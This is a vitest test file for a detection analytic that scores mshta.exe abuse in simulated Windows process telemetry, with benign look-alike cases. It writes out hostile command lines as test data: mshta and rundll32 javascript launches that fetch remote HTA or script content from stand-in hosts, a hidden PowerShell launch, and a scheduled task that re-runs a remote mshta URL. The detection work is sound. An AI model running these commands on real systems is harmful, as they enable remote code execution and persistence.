import { describe, expect, it } from 'vitest';
import { describeAnalytic, type LookAlike, type SampleStory } from '../testContract';
import {
  CMD,
  callsOut,
  EDGE,
  findingOf,
  findingsOf,
  homeOf,
  MSHTA,
  mailCacheOf,
  OUTLOOK,
  POWERSHELL,
  pointsOf,
  RUNDLL32,
  SYSTEM,
  SYSTEM32,
  statesOf,
  storyOf,
  type ToldStory,
  verdictOf,
  WORD,
} from '../testStory';

const REMOTE = `${MSHTA} https://files.example/view.hta`;

/** Word starts mshta on a remote HTA; it writes a script, starts PowerShell on it and calls out. */
function remoteHta(): ToldStory {
  const story = storyOf();
  const { s, as } = story;
  const word = as('lineage', () => s.starts(WORD));
  s.after('40s');
  const mshta = as('execution', () => s.starts(MSHTA, { parent: word, commandLine: REMOTE }));
  s.after('1s');
  as('ie_context', () => s.loads(mshta, `${SYSTEM32}\\wshom.ocx`));
  as('network', () => callsOut(s, mshta));
  s.after('1s');
  const script = `${homeOf(s)}\\AppData\\Roaming\\upd.ps1`;
  as('file_write', () => s.writes(mshta, script));
  as('child_process', () =>
    s.starts(POWERSHELL, { parent: mshta, commandLine: `powershell.exe -w hidden -f "${script}"` }),
  );
  return story;
}

/** A local HTA out of the mail, whose only consequence is a child of a child. */
function attachedHta(): ToldStory {
  const story = storyOf();
  const { s, as } = story;
  const hta = `${mailCacheOf(s)}\\invoice.hta`;
  const outlook = as('lineage', () => s.starts(OUTLOOK));
  s.after('1m');
  s.writes(outlook, hta);
  s.marks(outlook, hta);
  s.after('5s');
  const mshta = as('execution', () =>
    s.starts(MSHTA, {
      parent: outlook,
      commandLine: `"${MSHTA}" "${hta}" {1E460BD7-F1C3-4B2E-88BF-4E770A288AF5}{1E460BD7-F1C3-4B2E-88BF-4E770A288AF5}`,
    }),
  );
  s.after('7s');
  as('child_process', () => {
    const shell = s.starts(CMD, { parent: mshta, commandLine: `${CMD} /c whoami` });
    s.starts(`${SYSTEM32}\\whoami.exe`, { parent: shell });
  });
  return story;
}

const samples: readonly SampleStory[] = [
  {
    name: 'a remote HTA from Word with every consequence',
    tell: remoteHta,
    points: { X1: 20, X2: 20, L1: 20, F1b: 30, F4: 15, F6: 15, F9c: 10, I1: 5 },
    verdict: ['complete', 100, 'critical'],
    lineage: ['child_process'],
    tooLate: {},
    partialWithout: [],
  },
  {
    name: 'an HTA opened out of a mail',
    tell: attachedHta,
    points: { X1: 20, X6b: 18, X7: 10, L1: 20, F1: 20, I1: 5 },
    verdict: ['complete', 93, 'critical'],
    lineage: ['child_process'],
    tooLate: { child_process: 11 },
    partialWithout: [],
  },
];

const vendor = (tell: (story: ToldStory) => void): (() => ToldStory) => {
  return () => {
    const story = storyOf();
    tell(story);
    return story;
  };
};

const lookAlikes: readonly LookAlike[] = [
  {
    name: "a printer vendor's portal is lowered",
    for: 'B3',
    expect: { atMost: 20 },
    tell: vendor(({ s }) => {
      const setup = s.starts('C:\\Program Files\\HP\\Bin\\HPSetup.exe', { parent: s.services, user: SYSTEM });
      const mshta = s.starts(MSHTA, {
        parent: setup,
        commandLine: `"${MSHTA}" "C:\\Program Files\\HP\\Bin\\hpsolutionsportal.hta"`,
      });
      s.starts(CMD, { parent: mshta, commandLine: `${CMD} /c "C:\\Program Files\\HP\\hpudc.exe"` });
    }),
  },
  {
    name: "software distribution's own question by HTA is lowered",
    for: 'B4',
    expect: { atMost: 39 },
    tell: vendor(({ s }) => {
      const agent = s.starts('C:\\Windows\\CCM\\CcmExec.exe', { parent: s.services, user: SYSTEM });
      const mshta = s.starts(MSHTA, {
        parent: agent,
        user: SYSTEM,
        commandLine: `"${MSHTA}" "C:\\Windows\\CCM\\Corp\\restart.hta"`,
      });
      s.starts(`${SYSTEM32}\\shutdown.exe`, { parent: mshta, user: SYSTEM });
    }),
  },
  {
    name: 'a source declared as allowed is lowered',
    for: 'B1',
    tuned: { AllowedHTASources: ['portal.corp.example'] },
    expect: { atMost: 39 },
    tell: vendor(({ s }) => {
      const mshta = s.starts(MSHTA, { commandLine: `${MSHTA} https://portal.corp.example/forms/leave.hta` });
      s.after('1s');
      s.resolves(mshta, 'portal.corp.example', ['10.20.1.15']);
      s.connects(mshta, '10.20.1.15', 443);
    }),
  },
  {
    name: "a destination in the environment's own network is lowered",
    for: 'B5',
    lists: { own_networks: ['10.20.0.0/16'] },
    expect: { atMost: 39 },
    tell: vendor(({ s }) => {
      const mshta = s.starts(MSHTA, { commandLine: `"${MSHTA}" "C:\\Apps\\leave.hta"` });
      s.connects(mshta, '10.20.1.15', 443);
    }),
  },
  {
    name: 'a local HTA of a program, with nothing after it',
    expect: 'nothing',
    tell: vendor(({ s }) => {
      s.starts(MSHTA, { commandLine: `"${MSHTA}" "C:\\Program Files\\Atlas\\help\\index.hta"` });
    }),
  },
  {
    name: 'a search for the word',
    expect: 'nothing',
    tell: vendor(({ s }) => {
      const shell = s.starts(CMD);
      s.starts(`${SYSTEM32}\\findstr.exe`, {
        parent: shell,
        commandLine: 'findstr /s "mshta.exe https://files.example/a.hta" C:\\Logs\\*.txt',
      });
      s.starts(POWERSHELL, { parent: shell, commandLine: 'powershell -c "Get-Process mshta | select Path"' });
      s.starts(`${SYSTEM32}\\reg.exe`, {
        parent: shell,
        commandLine: 'reg query HKCU\\Software /f "vbscript:Execute" /s',
      });
    }),
  },
  {
    name: 'a rule or note named after it',
    expect: 'nothing',
    tell: vendor(({ s }) => {
      s.starts(`${SYSTEM32}\\notepad.exe`, {
        commandLine: `notepad.exe ${homeOf(s)}\\Documents\\mshta.hta.txt`,
      });
      s.starts('C:\\Program Files\\Tools\\mshta-viewer.exe', {
        commandLine: '"C:\\Program Files\\Tools\\mshta-viewer.exe" https://files.example/a.hta',
      });
    }),
  },
];

describeAnalytic({ analytic: 'AN1397', samples, lookAlikes });

describe('AN1397: the shapes of the specification', () => {
  it('scores inline VBScript from cmd that starts PowerShell with 73', () => {
    const { s } = storyOf();
    const shell = s.starts(CMD);
    const mshta = s.starts(MSHTA, {
      parent: shell,
      commandLine:
        'mshta  vbscript:Execute("CreateObject(""Wscript.Shell"").Run ""powershell -noexit -command Get-Service"":close")',
    });
    s.starts(POWERSHELL, { parent: mshta, commandLine: 'powershell -noexit -command Get-Service' });
    const finding = findingOf(s.events(), 'AN1397');
    expect(pointsOf(finding)).toEqual({ X1: 20, X4: 20, L3: 8, F1: 20, I1: 5 });
    expect(verdictOf(finding)).toEqual(['complete', 73, 'high']);
  });

  it('scores an HTA in the startup folder with 65', () => {
    const { s } = storyOf();
    const shell = s.starts(POWERSHELL);
    const hta = `${homeOf(s)}\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.hta`;
    s.writes(shell, hta);
    const mshta = s.starts(MSHTA, { parent: shell, commandLine: `"${MSHTA}" "${hta}"` });
    s.starts(CMD, { parent: mshta, commandLine: `${CMD} /c calc.exe` });
    expect(verdictOf(findingOf(s.events(), 'AN1397'))).toEqual(['complete', 65, 'high']);
  });

  it('scores rundll32-javascript, then mshta on a disguised remote script, with 95, and hangs it on mshta', () => {
    const { s } = storyOf({ without: ['image_load'] });
    const rundll = s.starts(RUNDLL32, {
      commandLine: `rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";eval("new ActiveXObject('WScript.Shell').Run('mshta')")`,
    });
    s.after('1s');
    const mshta = s.starts(MSHTA, {
      parent: rundll,
      commandLine: `"${MSHTA}" https://hotel.example/talsk.txt`,
    });
    s.after('1s');
    s.connects(mshta, '10.20.9.9', 443, { sensorClock: '-8.6h' });
    s.connects(mshta, '10.20.9.9', 443, { sensorClock: '-8.6h' });
    s.after('1s');
    s.starts(`${SYSTEM32}\\schtasks.exe`, {
      parent: mshta,
      commandLine: 'schtasks /Create /sc MINUTE /mo 60 /TN task_ /TR "mshta https://hotel.example/x.txt"',
    });
    const finding = findingOf(s.events(), 'AN1397');
    expect(finding.anchor.image).toBe(MSHTA);
    expect(pointsOf(finding)).toEqual({ X1: 20, X2: 20, X5: 10, L6: 10, F1: 20, F7: 5, F9b: 5, I1: 5 });
    expect(verdictOf(finding)).toEqual(['complete', 95, 'critical']);
  });

  it('stands on the rundll32 variant when no mshta follows', () => {
    const { s } = storyOf();
    const rundll = s.starts(RUNDLL32, {
      commandLine: 'rundll32.exe javascript:"\\..\\mshtml.dll,#135 ";document.write()',
    });
    s.starts(POWERSHELL, { parent: rundll });
    const finding = findingOf(s.events(), 'AN1397');
    expect(finding.anchor.image).toBe(RUNDLL32);
    expect(finding.status).toBe('complete');
  });

  it('scores a script moniker fetched from the web, with a cache write, with 91', () => {
    const { s } = storyOf({ without: ['network_connect', 'dns_query'] });
    const shell = s.starts(CMD);
    const mshta = s.starts(MSHTA, {
      parent: shell,
      commandLine: 'mshta.exe javascript:a=(GetObject("script:https://code.example/a.sct")).Exec();close();',
    });
    s.writes(mshta, `${homeOf(s)}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\IE\\AB12CD34\\a[1].sct`);
    s.starts(`${SYSTEM32}\\calc.exe`, { parent: mshta });
    const finding = findingOf(s.events(), 'AN1397');
    expect(verdictOf(finding)).toEqual(['complete', 91, 'critical']);
    expect(statesOf(finding).network).toBe('matched');
  });

  // B.7 adds F7 for the inbound connection and calls it complete with 65. The labels of the recording call it partial,
  // and they are right: what came in is how mshta was activated (X10b), not something that it did.
  it('holds COM activation with nothing but an inbound connection, whose clock is early, to be partial', () => {
    const { s } = storyOf();
    const dcom = s.starts('C:\\Windows\\System32\\svchost.exe', {
      parent: s.services,
      user: SYSTEM,
      commandLine: 'C:\\Windows\\system32\\svchost.exe -k DcomLaunch',
    });
    const mshta = s.starts(MSHTA, { parent: dcom, commandLine: `${MSHTA} -Embedding` });
    s.connects(mshta, '10.20.7.31', 55_683, { direction: 'ingress', sensorClock: '-4s' });
    const finding = findingOf(s.events(), 'AN1397');
    expect(pointsOf(finding)).toEqual({ X10: 30, X10b: 25, I1: 5 });
    expect(verdictOf(finding)).toEqual(['partial', 60, 'medium']);
  });

  it("scores an HTA out of the browser's cache with 55", () => {
    const { s } = storyOf();
    const ie = s.starts('C:\\Program Files\\Internet Explorer\\iexplore.exe');
    const mshta = s.starts(MSHTA, {
      parent: ie,
      commandLine: `"${MSHTA}" "${homeOf(s)}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\IE\\S97WTYG7\\update[1].hta"`,
    });
    s.after('1s');
    s.connects(mshta, '10.0.2.18', 4443);
    const finding = findingOf(s.events(), 'AN1397');
    expect(pointsOf(finding)).toEqual({ X1: 20, X6b: 18, L2: 12, F7: 5 });
    expect(verdictOf(finding)).toEqual(['complete', 55, 'medium']);
  });

  it('names Word as the cause when it asked Explorer over COM, and only as near without the request', () => {
    const told = (requested: boolean) => {
      const { s } = storyOf({ without: ['image_load'] });
      const word = s.starts(WORD, { commandLine: `"${WORD}" "${homeOf(s)}\\Documents\\offer.doc"` });
      s.after('10s');
      if (requested)
        s.opensKey(
          word,
          '\\REGISTRY\\MACHINE\\SOFTWARE\\Classes\\CLSID\\{c08afd90-f2a1-11d1-8455-00a0c91f3880}',
        );
      s.after('500ms');
      const mshta = s.starts(MSHTA, { commandLine: `"${MSHTA}" C:\\Users\\Public\\memo.hta` });
      s.after('1s');
      s.starts(RUNDLL32, { parent: mshta, commandLine: 'rundll32.exe C:\\Users\\Public\\memo.jpg,run' });
      return findingOf(s.events(), 'AN1397');
    };
    expect(verdictOf(told(true))).toEqual(['complete', 87, 'critical']);
    expect(pointsOf(told(true))).toMatchObject({ L1: 20, F1b: 30, X6: 12 });
    expect(verdictOf(told(false))).toEqual(['complete', 75, 'high']);
    expect(pointsOf(told(false))).toMatchObject({ L7: 8 });
  });

  it('keeps remote content without consequence as partial, and a local file not at all', () => {
    const remote = storyOf();
    remote.s.starts(MSHTA, { commandLine: REMOTE });
    const finding = findingOf(remote.s.events(), 'AN1397');
    expect(finding.status).toBe('partial');
    expect(statesOf(finding)).toMatchObject({
      network: 'absent',
      child_process: 'absent',
      file_write: 'absent',
    });
    const local = storyOf();
    local.s.starts(MSHTA, { commandLine: `${MSHTA} C:\\Apps\\menu.hta` });
    expect(findingsOf(local.s.events(), 'AN1397')).toEqual([]);
  });

  it('lets a second mshta below the first join the outermost finding', () => {
    const { s } = storyOf();
    const first = s.starts(MSHTA, { commandLine: REMOTE });
    const shell = s.starts(CMD, { parent: first });
    const second = s.starts(MSHTA, { parent: shell, commandLine: `${MSHTA} https://files.example/b.hta` });
    s.starts(POWERSHELL, { parent: second });
    expect(findingOf(s.events(), 'AN1397').anchor.entityId).toBe(first.entityId);
  });

  it('takes one start that lost its command line as blind for the content, too', () => {
    const { s } = storyOf();
    const mshta = s.starts(MSHTA);
    s.starts(POWERSHELL, { parent: mshta });
    const events = s.events().map((event) => {
      if (event['process.entity_id'] !== mshta.entityId || event.kind !== 'process_start') return event;
      const { 'process.command_line': _lost, ...rest } = event;
      return rest;
    });
    const finding = findingOf(events, 'AN1397');
    expect(finding.status).toBe('partial');
    expect(statesOf(finding)).toMatchObject({ execution: 'blind', child_process: 'matched' });
  });

  it('takes an export without command lines as blind for the content, not as absent', () => {
    const { s } = storyOf({ without: ['process.command_line'] });
    const edge = s.starts(EDGE);
    const mshta = s.starts(MSHTA, { parent: edge });
    s.starts(POWERSHELL, { parent: mshta });
    const finding = findingOf(s.events(), 'AN1397');
    expect(finding.status).toBe('partial');
    expect(finding.score).toBeLessThanOrEqual(60);
    expect(statesOf(finding)).toMatchObject({ execution: 'blind', child_process: 'matched' });
  });
});
